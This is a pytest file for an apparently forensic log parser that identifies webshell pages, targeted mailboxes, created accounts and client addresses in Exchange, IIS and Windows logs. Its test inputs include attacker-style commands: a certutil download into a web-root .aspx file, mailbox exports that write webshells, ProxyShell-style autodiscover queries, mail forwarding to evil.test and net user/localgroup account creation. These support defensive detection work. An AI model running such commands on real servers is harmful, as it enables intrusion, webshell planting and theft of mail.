"""Row → names: every way in which a row names a page, a mailbox, an account or a client. Sources: traces.md, traces-2.md."""

import base64
from datetime import UTC, datetime
from time import perf_counter

import pytest

from exhume.model import Record, Source
from exhume.model.address import inside
from exhume.model.names import accounts_in, mailboxes_in_script, page_of, pages_in, parameters_of
from exhume.model.visit import keys_of

WHERE = Source("e", "log", "line 1")
AT = datetime(2021, 8, 20, 12, tzinfo=UTC)
CLIENT = "C:\\inetpub\\wwwroot\\aspnet_client\\"


def named(kind, fields, name, channel=""):
    keys, _ = keys_of(Record(kind, AT, fields, WHERE, channel, "EX01"))
    return {k.partition(":")[2] for k in keys if k.startswith(f"{name}:")}


def iis(**more):
    return {"cs-method": "GET", "cs-uri-stem": "/", "c-ip": "203.0.113.5", "sc-status": "200", "s-ip": "10.0.0.1"} | more


@pytest.mark.parametrize(
    ("stem", "page"),
    [
        ("/aspnet_client/x.aspx", "/aspnet_client/x.aspx"),
        ("/aspnet_client/X.ASPX/more/info", "/aspnet_client/x.aspx"),
        ("//owa//auth/x.aspx", "/owa/auth/x.aspx"),
        ("/(S(abc))/owa/auth/x.aspx", "/owa/auth/x.aspx"),
        ("/owa/auth/x.aspx. ", "/owa/auth/x.aspx"),
        ("/owa/auth/x.aspx::$DATA", "/owa/auth/x.aspx"),
        ("/ews/x.asmx?a=/y.aspx", "/ews/x.asmx"),
        ("/owa/auth/logon.aspxy", ""),
        ("/owa/auth/x.js", ""),
        ("/autodiscover/autodiscover.json", ""),
        ("/v1.aspects/x", ""),
        ("/", ""),
    ],
)
def test_the_page_that_a_path_calls(stem, page):
    assert page_of(stem) == page
    assert named("iis.access", iis(**{"cs-uri-stem": stem}), "shell") == ({page} if page else set())


@pytest.mark.parametrize(
    ("fields", "shells"),
    [
        ({"Cmdlet": "New-MailboxExportRequest", "Parameters": f'-Mailbox "a" -FilePath "\\\\127.0.0.1\\c$\\{CLIENT[3:]}a b.aspx"'}, "a b.aspx"),
        ({"Cmdlet": "New-MailboxExportRequest", "Parameters": f"-Mailbox 'a' -FilePath '\\\\localhost\\C$\\{CLIENT[3:]}q.aspx'"}, "q.aspx"),
        ({"Cmdlet": "New-MailboxExportRequest", "Parameters": f"-FilePath \\\\ex01\\C$\\{CLIENT[3:]}n.ashx -Mailbox a"}, "n.ashx"),
        ({"Cmdlet": "New-ExchangeCertificate", "Parameters": f"-GenerateRequest -RequestFile:{CLIENT}c.aspx"}, "c.aspx"),
        ({"EventID": 11, "TargetFilename": f"{CLIENT}s.aspx"}, "s.aspx"),
        ({"EventID": 5145, "ShareName": "\\\\*\\C$", "RelativeTargetName": f"{CLIENT[3:]}share.aspx"}, "share.aspx"),
        ({"EventID": 4663, "ObjectName": f"{CLIENT}audit.aspx"}, "audit.aspx"),
        ({"EventID": 1117, "Threat Name": "Backdoor:ASP/x", "Path": f"file:_{CLIENT}d.aspx; file:_{CLIENT}e.aspx"}, "d.aspx e.aspx"),
        ({"EventID": 4663, "ObjectName": "\\REGISTRY\\MACHINE\\x.aspx"}, ""),
        ({"EventID": 5145, "ShareName": "\\\\*\\IPC$", "RelativeTargetName": "srvsvc"}, ""),
        ({"Cmdlet": "New-MailboxExportRequest", "Parameters": '-Mailbox "a" -FilePath "\\\\nas\\pst\\a.pst"'}, ""),
    ],
)  # fmt: skip
def test_pages_that_events_and_cmdlets_place(fields, shells):
    names = shells.split(" ") if shells and " b" not in shells else [shells] if shells else []
    assert named("windows.event", fields, "shell") == {f"/aspnet_client/{name}" for name in names}


@pytest.mark.parametrize(
    ("command", "page"),
    [
        (f'cmd /c echo x > "{CLIENT}w.aspx"', "w.aspx"),
        (f"attrib +h +s {CLIENT}hidden.aspx", "hidden.aspx"),
        ("certutil -urlcache -f http://198.51.100.7/a.txt C:/inetpub/wwwroot/aspnet_client/dl.aspx", "dl.aspx"),
        (f"copy C:\\Temp\\a.txt \\\\127.0.0.1\\c$\\{CLIENT[3:]}cp.aspx", "cp.aspx"),
        (f"copy a.txt \\\\other\\c$\\{CLIENT[3:]}cp.aspx", ""),
        (f"type {CLIENT}x.aspx.req", ""),
        (f"type {CLIENT}x.aspx.bak", ""),
        ("whoami", ""),
    ],
)
def test_pages_that_commands_name(command, page):
    fields = {"EventID": 4688, "CommandLine": command}
    assert named("windows.event", fields, "page") == ({f"/aspnet_client/{page}"} if page else set())
    assert not named("windows.event", fields, "shell"), "a command proves no page"


def test_pages_that_other_logs_name():
    message = f"Download failed and temporary file '{CLIENT}oab.aspx' needs to be removed"
    assert named("exchange.oabgenerator", {"Message": message}, "shell") == {"/aspnet_client/oab.aspx"}
    tool = {"tool": "msert", "target": f"file://{CLIENT}m.aspx->(SCRIPT0000)"}
    assert "/aspnet_client/m.aspx" in named("tool.detection", tool, "shell")
    reset = {"S:CMD": f"New-OabVirtualDirectory.Path='\\\\127.0.0.1\\C$\\{CLIENT[3:]}r.aspx'", "S:URL": "/ecp/"}
    assert named("exchange.ecp-server", reset, "shell") == {"/aspnet_client/r.aspx"}
    compiled = {"virtualPath": "/aspnet_client/g.aspx"}
    assert named("aspnet.compiled", compiled, "shell") == {"/aspnet_client/g.aspx"}
    assert named("web.file", {"windows_path": "D:\\site\\p.aspx", "url": "/portal/p.aspx"}, "shell") == {"/portal/p.aspx"}


@pytest.mark.parametrize(
    ("cmdlet", "parameters", "mailboxes"),
    [
        ("New-MailboxExportRequest", '-Mailbox "jane@contoso.test" -FilePath "x"', {"jane@contoso.test"}),
        ("New-MailboxExportRequest", "-Mailbox 'Jane O''Neil' -IncludeFolders '#Drafts#'", {"jane o'neil"}),
        ("New-MailboxExportRequest", "-Mailbox jdoe -FilePath x", {"jdoe"}),
        ("New-MailboxExportRequest", "-Mailbox:jdoe", {"jdoe"}),
        ("New-MailboxSearch", '-SourceMailboxes "a@b.test","c d" -TargetMailbox "loot"', {"a@b.test", "c d", "loot"}),
        ("Set-Mailbox", '-Identity "4f9e1c30-1111-2222-3333-444455556666" -ForwardingSmtpAddress "x@evil.test"',
         {"4f9e1c30-1111-2222-3333-444455556666"}),
        ("Set-Mailbox", '-Identity "contoso.test/Users/Jane Doe"', {"contoso.test/users/jane doe"}),
        ("Add-MailboxFolderPermission", '-Identity "jane:\\Calendar" -User "eve"', {"jane"}),
        ("Remove-MailboxExportRequest", '-Identity "jane\\MailboxExport1" -Confirm "False"', {"jane"}),
        ("Set-OabVirtualDirectory", '-Identity "EX01\\OAB (Default Web Site)"', set()),
        ("New-InboxRule", "-Force -Mailbox '/o=Org/ou=x/cn=Recipients/cn=jane'", {"/o=org/ou=x/cn=recipients/cn=jane"}),
        ("Set-Mailbox", "-Identity $null", set()),
    ],
)  # fmt: skip
def test_mailboxes_of_cmdlets(cmdlet, parameters, mailboxes):
    assert named("windows.event", {"Cmdlet": cmdlet, "Parameters": parameters}, "mailbox") == mailboxes


@pytest.mark.parametrize(
    ("text", "mailboxes"),
    [
        ("New-MailboxExportRequest -Mailbox jane@contoso.test -FilePath '\\\\localhost\\c$\\m.pst'", "jane@contoso.test"),
        ("Add-PSSnapin x; New-MailboxExportRequest -Mailbox 'Jane@contoso.test' -FilePath y", "jane@contoso.test"),
        ('New-MailboxExportRequest -FilePath "y" -Mailbox "Jane Doe"', "jane doe"),
        ("new-mailboxexportrequest `\r\n -filepath y `\r\n -mailbox:jane", "jane"),
        ("Search-Mailbox -Identity jane -SearchQuery 'a;b' -TargetMailbox loot -TargetFolder x", "jane loot"),
        ("Search-Mailbox jane -DeleteContent -Force", "jane"),
        ("New-InboxRule -Name sync -Mailbox jane -ForwardTo x@evil.test", "jane"),
        ("Add-MailboxPermission jane -User eve -AccessRights FullAccess", "jane"),
        ("Add-MailboxPermission -Identity 'jane' -User eve -AccessRights FullAccess", "jane"),
        ("Set-Mailbox anna -ForwardingSmtpAddress x@evil.test; Get-Date", "anna"),
        ("New-MailboxSearch -SourceMailboxes @('a@b.test','c') -Name x", "a@b.test c"),
        ('powershell.exe -c "New-MailboxExportRequest -Mailbox jane -FilePath y"', "jane"),
        ('powershell.exe -Command "New-MailboxExportRequest -Mailbox \\"Jane D\\" -FilePath y"', "jane d"),
        ("(Get-Mailbox -Identity jane) | New-MailboxExportRequest -FilePath y", "jane"),
        ("foreach ($m in $all) { New-MailboxExportRequest -Mailbox $m -FilePath \"\\\\nas\\$($m.Alias).pst\" }", ""),
        ("New-MailboxExportRequest -Mailbox $_.Alias -FilePath y", ""),
        ("Get-Mailbox -ResultSize Unlimited | Set-Mailbox -RetainDeletedItemsFor 30", ""),
        ("Get-MailboxDatabase -Identity DB01 -Status", ""),
        ("Get-MailboxServer EX01", ""),
        ("Get-MailboxExportRequest | Format-Table", ""),
        ("Write-Host 'use -Mailbox jane'", ""),
        ("# a mailbox is kept; Copy-Item -Mailbox x", ""),
        ("My-New-MailboxExportRequest2 -Mailbox jane", ""),
        ("schtasks /create /tn backup-mailbox /tr x", ""),
    ],
)  # fmt: skip
def test_mailboxes_that_scripts_and_command_lines_name(text, mailboxes):
    wanted = {"jane doe", "jane d"} & {mailboxes} or set(mailboxes.split())
    assert set(mailboxes_in_script(text)) == wanted
    assert named("windows.event", {"EventID": 4104, "ScriptBlockText": text}, "mailbox") == wanted
    assert named("windows.event", {"EventID": 4688, "CommandLine": text}, "mailbox") == wanted
    assert named("windows.task", {"Command": "powershell.exe", "Arguments": text}, "mailbox") == wanted


@pytest.mark.parametrize(
    ("user", "mailbox"),
    [
        ("CFO@contoso.test", "cfo@contoso.test"),
        ("SMTP:cfo@contoso.test", "cfo@contoso.test"),
        ("smtp~cfo@contoso.test", "cfo@contoso.test"),
        ("CONTOSO\\cfo", "contoso\\cfo"),
        ("S-1-5-21-1-2-3-1105", "s-1-5-21-1-2-3-1105"),
        ("CONTOSO\\EX01$", ""),
        ("-", ""),
        ("", ""),
    ],
)
@pytest.mark.parametrize("field", ["ImpersonatedUser", "ActAsUser", "ProxyAsUser"])
def test_mailboxes_in_whose_name_web_services_were_asked(field, user, mailbox):
    row = {"AuthenticatedUser": "CONTOSO\\EX01$", "ClientIpAddress": "203.0.113.9", field: user}
    assert named("exchange.ews", row, "mailbox") == ({mailbox} if mailbox else set())
    assert not named("exchange.ews", row, "account"), "the server's own account is nobody"


@pytest.mark.parametrize(
    ("fields", "accounts"),
    [
        ({"EventID": 4688, "SubjectUserName": "svc-scan", "TargetUserName": "-", "CommandLine": "x"}, {"svc-scan"}),
        ({"EventID": 4688, "SubjectUserName": "EX01$", "TargetUserName": "Eve", "CommandLine": "x"}, {"eve"}),
        ({"EventID": 4688, "SubjectUserName": "EX01$", "TargetUserName": "-", "CommandLine": "x"}, set()),
        ({"EventID": 4688, "SubjectUserName": "SYSTEM", "CommandLine": "x"}, set()),
        ({"EventID": 1, "User": "CONTOSO\\svc-scan", "CommandLine": "x"}, {"contoso\\svc-scan"}),
        ({"EventID": 1, "User": "NT AUTHORITY\\SYSTEM", "CommandLine": "x"}, set()),
        ({"EventID": 1, "User": "NT-AUTORIT\u00c4T\\Lokaler Dienst", "CommandLine": "x"}, set()),
        ({"EventID": 1, "User": "IIS APPPOOL\\MSExchangeOWAAppPool", "CommandLine": "x"}, set()),
        ({"EventID": 1, "User": "-", "CommandLine": "x"}, set()),
        ({"EventID": 4672, "SubjectUserName": "admin"}, set()),
        ({"EventID": 11, "User": "CONTOSO\\admin", "TargetFilename": "C:\\x.txt"}, set()),
    ],
)  # fmt: skip
def test_who_ran_a_command(fields, accounts):
    assert named("windows.event", fields, "named") == accounts
    assert not named("windows.event", fields, "account"), "it joins nothing: an administrator runs many commands"


def test_the_admin_centres_way_to_write_parameters():
    command = "New-InboxRule.Name='sync'.ForwardTo='x@evil.test'.StopProcessingRules=$false.Mailbox='Jane Doe'"
    assert named("exchange.ecp-server", {"S:CMD": command, "S:URL": "/ecp/"}, "mailbox") == {"jane doe"}
    assert dict(parameters_of(command))["stopprocessingrules"] == ("$false",)


@pytest.mark.parametrize(
    ("stem", "query", "mailboxes"),
    [
        ("/ecp/jane@contoso.test/RulesEditor/InboxRules.svc/NewObject", "", {"jane@contoso.test"}),
        ("/owa/jane@contoso.test/powershell", "", {"jane@contoso.test"}),
        ("/owa/jane%40contoso.test/", "", {"jane@contoso.test"}),
        ("/mapi/emsmdb/", "MailboxId=2b4ab6d5-4b3e-4a1e-8a3b-111122223333@contoso.test",
         {"2b4ab6d5-4b3e-4a1e-8a3b-111122223333@contoso.test"}),
        ("/autodiscover/autodiscover.json", "@x/powershell&Email=autodiscover/autodiscover.json%3Fjane@contoso.test",
         {"jane@contoso.test"}),
        ("/autodiscover/autodiscover.json", "@evil.test/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.test", set()),
        ("/owa/auth/logon.aspx", "url=https://mail.contoso.test/owa/", set()),
    ],
)  # fmt: skip
def test_mailboxes_of_urls(stem, query, mailboxes):
    assert named("iis.access", iis(**{"cs-uri-stem": stem, "cs-uri-query": query}), "mailbox") == mailboxes


def test_mailboxes_of_anchors():
    for anchor, name in (
        ("SMTP:Jane@contoso.test", "jane@contoso.test"),
        ("MailboxGuid~2b4ab6d5-4b3e-4a1e-8a3b-111122223333@contoso.test", "2b4ab6d5-4b3e-4a1e-8a3b-111122223333@contoso.test"),
    ):
        assert named("exchange.httpproxy", {"AnchorMailbox": anchor, "UrlStem": "/ews/"}, "mailbox") == {name}


def test_the_name_in_the_token_of_a_powershell_request():
    name = b"administrator@contoso.test"
    token = b"V\x01\x00T\x07WindowsC\x00A\x08KerberosL" + bytes([len(name)]) + name + b"U\x2cS-1-5-21-1-2-3-500G\x00"
    query = "a@x/powershell/?X-Rps-CAT=" + base64.b64encode(token).decode()
    assert named("iis.access", iis(**{"cs-uri-query": query}), "named") == {name.decode()}
    for broken in ("VgEA", "V" * 41, "%%%"):
        assert not named("iis.access", iis(**{"cs-uri-query": f"X-Rps-CAT={broken}"}), "named")


@pytest.mark.parametrize(
    ("command", "acts"),
    [
        ("net user eve P@ss1 /add", [("made", "eve", "")]),
        ('net1.exe user /add "eve adams" P@ss1 /domain', [("made", "eve adams", "")]),
        ("cmd /c net user DefaultAccount /active:yes & whoami", [("changed", "DefaultAccount", "")]),
        ("net user administrator N3w!", [("changed", "administrator", "")]),
        ("net localgroup Administrators eve /add", [("made", "eve", "Administrators")]),
        ('net group "Exchange Organization administrators" administrator /del /domain',
         [("removed", "administrator", "Exchange Organization administrators")]),
        ("New-LocalUser -Name 'eve' -Password $p; Get-Date", [("made", "eve", "")]),
        ("net user", []),
        ("net user administrator /domain", []),
        ("net localgroup administrators", []),
        ("net use \\\\x\\c$ /user:eve pw", []),
    ],
)  # fmt: skip
def test_accounts_that_commands_make_and_change(command, acts):
    assert list(accounts_in(command)) == acts


def test_accounts_of_events_and_cmdlets():
    assert named("windows.event", {"EventID": 4720, "TargetUserName": "eve"}, "account") == {"eve"}
    member = {"EventID": 4728, "MemberName": "CN=Eve\\, A,OU=x,DC=y", "TargetUserName": "Domain Admins"}
    assert named("windows.event", member, "named") == {"eve\\, a"}
    assert named("windows.event", {"EventID": 4732, "MemberName": "-", "MemberSid": "S-1-5-21-1"}, "named") == {"s-1-5-21-1"}
    role = {"Cmdlet": "New-ManagementRoleAssignment", "Parameters": "-Role 'Mailbox Import Export' -User 'eve'"}
    assert named("windows.event", role, "named") == {"eve"}
    assert named("exchange.ecp-activity", {"S:PSA": "<PII>CONTOSO\\eve</PII>", "S:URL": "/ecp/"}, "account") == {"contoso\\eve"}


@pytest.mark.parametrize(
    ("fields", "address", "via"),
    [
        ({"c-ip": "10.0.0.5", "X-Forwarded-For": "203.0.113.9,+10.0.0.7"}, {"203.0.113.9"}, {"10.0.0.7", "10.0.0.5"}),
        ({"c-ip": "10.0.0.5", "cs(X-Forwarded-For)": "203.0.113.9:51234"}, {"203.0.113.9"}, {"10.0.0.5"}),
        ({"c-ip": "10.0.0.5", "X-Forwarded-For": "127.0.0.1, 203.0.113.9"}, {"203.0.113.9"}, {"127.0.0.1", "10.0.0.5"}),
        ({"c-ip": "198.51.100.3", "X-Forwarded-For": "127.0.0.1"}, {"198.51.100.3"}, {"127.0.0.1"}),
        ({"c-ip": "10.0.0.5", "X-Forwarded-For": "-"}, {"10.0.0.5"}, set()),
        ({"c-ip": "10.0.0.5", "X-Forwarded-For": "[2001:db8::1]:443"}, {"2001:db8::1"}, {"10.0.0.5"}),
        ({"c-ip": "10.0.0.1"}, set(), set()),
    ],
)
def test_the_client_behind_a_load_balancer(fields, address, via):
    row = iis() | fields
    assert named("iis.access", row, "address") == address
    assert named("iis.access", row, "via") == via


def test_the_whole_way_in_one_cell():
    row = {"ClientIpAddress": "203.0.113.9 10.0.0.5", "UrlStem": "/ecp/"}
    assert named("exchange.httpproxy", row, "address") == {"203.0.113.9"}


@pytest.mark.parametrize("address", ["10.1.2.3", "172.31.0.1", "192.168.1.1", "127.0.0.1", "169.254.1.1", "100.64.0.9", "::1",
                                     "fe80::1%5", "fd00::1", "::ffff:10.0.0.1", "0.0.0.0"])  # fmt: skip
def test_inside(address):
    assert inside(address)


@pytest.mark.parametrize("address", ["203.0.113.5", "8.8.8.8", "172.32.0.1", "100.128.0.1", "2001:db8::1", "host", ""])
def test_outside_or_no_address(address):
    assert not inside(address)


@pytest.mark.parametrize("text", ["-A " * 40_000, "C:\\" * 40_000, "'" * 100_000, "-Mailbox " + '"a",' * 30_000, "net user " * 20_000,
                                  "/" * 100_000, "-a 'x" * 20_000, "New-Mailbox 'a' " * 9_000, "-mailbox" * 9_000, "C:\\" + "a" * 100_000, ".a='" * 30_000])  # fmt: skip
def test_hostile_texts_cost_little(text):
    began = perf_counter()
    named("windows.event", {"Cmdlet": "Set-Mailbox", "Parameters": text}, "mailbox")
    named("windows.event", {"EventID": 4688, "CommandLine": text}, "page")
    named("iis.access", iis(**{"cs-uri-stem": text, "cs-uri-query": text}), "mailbox")
    list(pages_in(text))
    assert perf_counter() - began < 2
